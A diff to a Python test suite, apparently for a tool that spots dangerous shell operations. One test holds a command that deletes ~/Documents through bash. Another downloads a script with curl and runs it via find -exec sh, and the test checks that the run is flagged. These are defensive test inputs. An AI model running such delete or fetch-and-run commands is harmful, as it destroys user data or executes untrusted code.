@@ -273,3 +273,12 @@ def test_set_prints_the_variables_only_with_no_argument(proj: Path) -> None:
 def test_builtin_exec_holds_a_descriptor_as_exec_does(proj: Path) -> None:
     found = ops("builtin exec 3<<<'rm -rf ~/Documents'; bash <&3", proj, "delete")
     assert [e["path"] for e in found] == ["/home/u/Documents"]
+
+
+def test_a_file_a_runner_hands_its_command_is_judged_at_that_command(proj: Path) -> None:
+    """`find … -exec tar -xJf F {} +` after F was downloaded: tar reads F (an archive, not code find runs);
+    `find … -exec sh F {} +` still runs the downloaded F, judged at sh."""
+    fetched = "curl -fsSL -o /tmp/n.tar.xz https://nodejs.org/n.tar.xz && "
+    assert not ops(fetched + "find /tmp -maxdepth 0 -exec tar -xJf /tmp/n.tar.xz -C {} +", proj, "exec")
+    (run,) = ops("curl -so /tmp/x.sh https://e.x/x && find . -maxdepth 0 -exec sh /tmp/x.sh {} +", proj, "exec")
+    assert (run["program"], run["path"], run["flow"]) == ("sh", "/tmp/x.sh", "fetch")
